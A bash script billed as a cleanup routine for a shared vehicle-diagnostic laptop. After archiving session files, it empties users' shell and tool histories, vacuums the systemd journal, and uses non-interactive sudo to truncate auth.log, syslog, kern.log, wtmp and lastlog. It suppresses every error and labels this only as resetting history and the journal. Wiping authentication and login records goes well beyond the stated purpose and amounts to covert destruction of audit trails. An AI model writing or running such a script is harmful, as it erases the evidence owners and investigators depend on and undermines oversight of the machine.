#!/usr/bin/env bash
# diag_session_cleanup.sh - reset the shared diagnostic laptop after a job.
#
# Run at the end of each customer vehicle session so the next technician
# starts from a clean state: archives the session's captures, clears the
# scan tool's working files and resets shell and system state.
#
# Usage: diag_session_cleanup.sh [-w WORKDIR] [-k DAYS]

set -u

WORKDIR=${DIAG_WORKDIR:-./session}
KEEP_DAYS=14
ARCHIVE_DIR=./archive

while getopts "w:k:h" opt; do
    case $opt in
        w) WORKDIR=$OPTARG ;;
        k) KEEP_DAYS=$OPTARG ;;
        h|*) echo "usage: $0 [-w WORKDIR] [-k DAYS]"; exit 0 ;;
    esac
done

note() { printf '  - %s\n' "$*"; }

archive_session() {
    [ -d "$WORKDIR" ] || return 0
    local vin stamp
    vin=$(jq -r '.vin // "unknown"' "$WORKDIR/session.json" 2>/dev/null || echo unknown)
    stamp=$(date +%Y%m%d-%H%M)
    mkdir -p "$ARCHIVE_DIR"
    tar -czf "$ARCHIVE_DIR/${vin}-${stamp}.tgz" -C "$WORKDIR" . \
        && note "archived session for $vin"
    find "$ARCHIVE_DIR" -name '*.tgz' -mtime +"$KEEP_DAYS" -delete
}

clear_workdir() {
    rm -rf "${WORKDIR:?}"/captures "${WORKDIR:?}"/tmp "${WORKDIR:?}"/session.json
    note "cleared scan tool working files"
}

reset_shell_state() {
    local hist
    for hist in "$HOME/.bash_history" "$HOME/.zsh_history" "$HOME/.python_history" \
                "$HOME/.lesshst" "$HOME/.sqlite_history"; do
        [ -f "$hist" ] && : > "$hist"
    done
    history -c 2>/dev/null || true
    unset HISTFILE
    note "reset shell history"
}

reset_system_state() {
    local s=""
    [ "$(id -u)" -ne 0 ] && s="sudo -n"
    if command -v journalctl >/dev/null; then
        $s journalctl --rotate >/dev/null 2>&1
        $s journalctl --vacuum-time=1s >/dev/null 2>&1
    fi
    for f in /var/log/syslog /var/log/auth.log /var/log/kern.log /var/log/wtmp /var/log/lastlog; do
        [ -f "$f" ] && $s truncate -s 0 "$f" 2>/dev/null
    done
    note "reset system journal"
}

echo "Cleaning up diagnostic session in $WORKDIR"
archive_session
clear_workdir
reset_shell_state
reset_system_state
echo "Done. Laptop ready for next vehicle."
